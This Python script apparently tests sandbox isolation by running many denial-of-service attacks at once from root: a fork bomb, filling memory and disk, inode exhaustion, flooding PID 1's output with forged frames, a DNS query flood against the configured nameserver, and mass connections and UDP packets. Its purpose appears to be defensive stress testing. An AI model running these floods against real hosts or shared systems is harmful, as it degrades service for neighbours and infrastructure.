"""Everything that root inside one sandbox can do to its neighbours and its host, at once, for a number of seconds.

Each attack counts what it did. The counts are written to /root/counts twice a second, over the same bytes: the disk may be
full, and a shortage of memory may end this program.
"""
import json, mmap, os, random, resource, signal, socket, struct, sys, time

SECONDS = int(sys.argv[1])
# How much memory is taken in MiB; with more than the sandbox has, its kernel may end all of it.
MEMORY = int(sys.argv[2])
# Names of files are kept in memory, too.
FILES = 20000 if MEMORY <= 200 else 10**9
PLACE = "/root/attack"
COUNTS = mmap.mmap(-1, 4096)
end = time.monotonic() + SECONDS


def name_server():
    for line in open("/etc/resolv.conf"):
        if line.startswith("nameserver"):
            return line.split()[1]
    return "127.0.0.1"


def question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", random.getrandbits(16), 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def log(count):
    out = os.open("/proc/1/fd/2", os.O_WRONLY)
    while True:
        try:
            os.write(out, b"x" * 65536)
            count()
        except BlockingIOError:
            time.sleep(0.001)


def stream(count):
    out = os.open("/proc/1/fd/1", os.O_WRONLY)
    magic = b"\xd0\x9d\x4d\xa1"
    while True:
        # Bytes that are not a frame, frames of channels that were not opened, and a frame that never ends.
        forged = magic + struct.pack("<BBHII", random.choice([4, 5, 6, 7, 8]), 1, 0, random.getrandbits(8), 32768)
        until = time.monotonic() + 10
        while time.monotonic() < until:
            try:
                os.write(out, random.choice([os.urandom(4096), forged + b"x" * 32768, forged]))
                count()
            except BlockingIOError:
                time.sleep(0.001)
        time.sleep(20)


def cpu(count):
    while True:
        sum(range(100000))
        count()


def processes(count):
    while True:
        children = []
        try:
            while True:
                child = os.fork()
                if child == 0:
                    time.sleep(1000)
                    os._exit(0)
                children.append(child)
                count()
        except OSError:
            pass
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)


def memory(count):
    while True:
        held = []
        while len(held) < MEMORY:
            held.append(os.urandom(1 << 20))
            count()


def disk(count):
    block = os.urandom(1 << 20)
    while True:
        path = f"{PLACE}/large"
        try:
            with open(path, "wb", buffering=0) as file:
                while True:
                    file.write(block)
                    os.fsync(file.fileno())
                    count()
        except OSError:
            pass
        try:
            with open(path, "rb", buffering=0) as file:
                while file.read(1 << 20):
                    count()
            os.unlink(path)
        except OSError:
            time.sleep(0.1)


def inodes(count):
    made = 0
    while True:
        if made * 5000 >= FILES:
            os.system(f"rm -rf {PLACE}/d*")
            made = 0
        directory = f"{PLACE}/" + "d" * 200 + str(made)
        try:
            os.mkdir(directory)
            for number in range(5000):
                os.close(os.open(f"{directory}/{number}" + "f" * 200, os.O_CREAT | os.O_WRONLY))
                count()
            made += 1
        except OSError:
            os.system(f"rm -rf {PLACE}/d*")


def look_ups(count):
    server = (name_server(), 53)
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(200)]
    streams = []
    while True:
        for one in sockets:
            try:
                one.sendto(question(f"{random.getrandbits(64):x}.example.com"), server)
                count()
            except OSError:
                pass
        try:
            stream = socket.socket()
            stream.settimeout(0.1)
            stream.connect(server)
            streams.append(stream)
        except OSError:
            pass
        streams = streams[-128:]
        time.sleep(0.01)


def connections(count):
    while True:
        opened = []
        try:
            for _ in range(4000):
                one = socket.socket()
                one.setblocking(False)
                one.connect_ex((f"198.51.100.{random.randrange(1, 255)}", random.randrange(1, 65536)))
                opened.append(one)
                count()
        except OSError:
            time.sleep(0.1)
        for one in opened:
            one.close()


def packets(count):
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        try:
            out.sendto(b"x" * 1200, (f"198.51.100.{random.randrange(1, 255)}", random.randrange(1, 65536)))
            count()
        except OSError:
            time.sleep(0.01)


ATTACKS = [log, stream, cpu, cpu, cpu, processes, memory, disk, inodes, look_ups, connections, packets]


def start(slot, attack):
    child = os.fork()
    if child:
        return child

    def count():
        COUNTS[slot * 8 : slot * 8 + 8] = struct.pack("<Q", struct.unpack("<Q", COUNTS[slot * 8 : slot * 8 + 8])[0] + 1)

    os.setpgid(0, 0)
    try:
        attack(count)
    finally:
        os._exit(1)


def write_counts():
    counts = {}
    for slot, attack in enumerate(ATTACKS):
        done = struct.unpack("<Q", COUNTS[slot * 8 : slot * 8 + 8])[0]
        counts[attack.__name__] = counts.get(attack.__name__, 0) + done
    os.pwrite(REPORT, json.dumps(counts).ljust(1024).encode(), 0)


REPORT = os.open("/root/counts", os.O_CREAT | os.O_WRONLY)
write_counts()
os.makedirs(PLACE, exist_ok=True)
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
running = {}
while time.monotonic() < end:
    for slot, attack in enumerate(ATTACKS):
        if slot not in running:
            try:
                running[slot] = start(slot, attack)
            except OSError:
                pass
    time.sleep(0.5)
    write_counts()
    for slot, child in list(running.items()):
        if os.waitpid(child, os.WNOHANG)[0]:
            # A process that ended, for example by a shortage of memory, is started again.
            try:
                os.killpg(child, signal.SIGKILL)
            except OSError:
                pass
            del running[slot]
for child in running.values():
    try:
        os.killpg(child, signal.SIGKILL)
    except OSError:
        pass
